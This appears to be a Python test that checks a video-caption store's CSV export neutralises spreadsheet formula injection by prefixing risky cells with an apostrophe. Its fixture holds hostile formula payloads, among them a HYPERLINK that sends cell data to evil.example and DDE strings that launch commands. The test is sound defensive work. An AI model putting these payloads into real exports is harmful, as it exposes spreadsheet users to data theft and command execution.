"""CSV export: a caption or source that starts like a spreadsheet formula is written inert."""

from __future__ import annotations

import csv
from pathlib import Path

from shared.messages import Captions, ClipSpan
from shared.store import RecordStore
from shared.store.export import export
from tests.store.factories import result

HOSTILE = {
    "dense_caption": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "main_object_caption": "+cmd|' /C calc'!A0",
    "background_caption": "-2+3+cmd|' /C calc'!A0",
    "camera_caption": "@SUM(1+1)*cmd|' /C calc'!A0",
    "style_caption": "\t=1+1",
}


def test_formula_cells_are_escaped_and_plain_cells_are_not(tmp_path: Path) -> None:
    with RecordStore.open(f"sqlite:///{tmp_path / 'mira.db'}") as store:
        hostile = result("clip-1", "job-1", caps=Captions(**HOSTILE), hint="\r=1+1")
        hostile = hostile.model_copy(update={"clip": ClipSpan(clip_id="clip-1", video_id="-vid",
                                                              source_uri="file:///videos/fox.mp4")})
        store.record(hostile)
        store.record(result("clip-2", "job-2"))
        out = tmp_path / "records.csv"
        export(store.iter_records("latest"), "csv", out)
    with out.open(newline="", encoding="utf-8") as f:
        rows = {row["clip_id"]: row for row in csv.DictReader(f)}
    bad, plain = rows["clip-1"], rows["clip-2"]
    for column, text in HOSTILE.items():
        assert bad[column] == "'" + text  # shown as text, the caption otherwise unchanged
    assert bad["short_caption"] == "'\r=1+1"
    assert bad["video_id"] == "'-vid"
    assert plain["dense_caption"].startswith("dense0") and plain["short_caption"] == "a fox in the snow"
    assert float(plain["start_s"]) == 2.5 and plain["frame_times_s"].startswith("[")  # numbers and lists intact
